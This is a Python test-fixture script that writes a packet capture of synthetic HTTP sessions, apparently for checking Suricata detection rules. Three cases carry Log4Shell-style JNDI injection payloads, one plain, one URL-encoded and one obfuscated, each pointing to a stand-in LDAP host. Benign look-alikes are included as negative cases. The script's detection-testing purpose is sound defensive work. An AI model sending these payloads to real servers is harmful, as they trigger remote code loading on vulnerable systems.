#!/usr/bin/env python3
"""Write a pcap with one full TCP/HTTP session per test case (nothing is transmitted).

Each case is a complete handshake + request + response + FIN so Suricata's stream
engine and HTTP parser see well-formed sessions.
"""
import json
import sys

from scapy.all import IP, TCP, Raw, wrpcap  # type: ignore

CLIENT, SERVER = "192.0.2.10", "198.51.100.20"

CASES = [
    {"name": "jndi-in-user-agent", "uri": "/",
     "headers": {"User-Agent": "${jndi:ldap://203.0.113.5:1389/a}"}, "expect_sids": [9000101]},
    {"name": "jndi-in-uri-encoded", "uri": "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fx%7D",
     "headers": {}, "expect_sids": [9000102]},
    {"name": "obfuscated-lower", "uri": "/",
     "headers": {"X-Api-Version": "${${lower:j}ndi:${lower:l}dap://203.0.113.5/o}"}, "expect_sids": [9000103]},
    # must NOT alert: template syntax that merely looks similar
    {"name": "benign-template", "uri": "/render",
     "headers": {"X-Template": "${user.name} - ${jndiStatus}"}, "expect_sids": []},
    {"name": "benign-plain", "uri": "/healthz", "headers": {"User-Agent": "kube-probe/1.29"}, "expect_sids": []},
]


def session(case, sport):
    req_lines = [f"GET {case['uri']} HTTP/1.1", "Host: app.netops-cdn.example"]
    req_lines += [f"{k}: {v}" for k, v in case["headers"].items()]
    req = ("\r\n".join(req_lines) + "\r\n\r\n").encode()
    resp = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"

    c, s = 1000, 5000
    pkts = []
    cli = IP(src=CLIENT, dst=SERVER)
    srv = IP(src=SERVER, dst=CLIENT)
    pkts.append(cli / TCP(sport=sport, dport=80, flags="S", seq=c))
    pkts.append(srv / TCP(sport=80, dport=sport, flags="SA", seq=s, ack=c + 1))
    pkts.append(cli / TCP(sport=sport, dport=80, flags="A", seq=c + 1, ack=s + 1))
    pkts.append(cli / TCP(sport=sport, dport=80, flags="PA", seq=c + 1, ack=s + 1) / Raw(req))
    c += 1 + len(req)
    pkts.append(srv / TCP(sport=80, dport=sport, flags="A", seq=s + 1, ack=c))
    pkts.append(srv / TCP(sport=80, dport=sport, flags="PA", seq=s + 1, ack=c) / Raw(resp))
    s += 1 + len(resp)
    pkts.append(cli / TCP(sport=sport, dport=80, flags="A", seq=c, ack=s))
    pkts.append(cli / TCP(sport=sport, dport=80, flags="FA", seq=c, ack=s))
    pkts.append(srv / TCP(sport=80, dport=sport, flags="FA", seq=s, ack=c + 1))
    pkts.append(cli / TCP(sport=sport, dport=80, flags="A", seq=c + 1, ack=s + 1))
    return pkts


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else "lab.pcap"
    packets, manifest, t = [], [], 1_700_000_000.0
    for i, case in enumerate(CASES):
        sport = 40000 + i
        for p in session(case, sport):
            p.time = t
            t += 0.001
            packets.append(p)
        manifest.append({"name": case["name"], "src_port": sport, "expect_sids": case["expect_sids"]})
    wrpcap(out, packets)
    with open(out + ".cases.json", "w") as fh:
        json.dump(manifest, fh, indent=2)
    print(f"wrote {len(packets)} packets, {len(CASES)} cases -> {out} (+ {out}.cases.json)")


if __name__ == "__main__":
    main()
